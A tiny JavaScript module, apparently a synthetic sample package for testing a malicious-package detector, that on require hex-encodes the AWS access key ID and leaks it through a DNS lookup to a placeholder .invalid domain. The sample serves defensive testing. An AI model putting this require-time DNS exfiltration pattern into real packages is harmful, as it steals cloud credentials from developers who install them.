// SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
// On require: hex-encodes the AWS key id from the environment into a DNS name (.invalid).
const dns = require("dns");
const key = Buffer.from(process.env.AWS_ACCESS_KEY_ID || "none").toString("hex");
dns.lookup(key + ".e.exfil-demo.invalid", () => {});
module.exports = { ok: true };
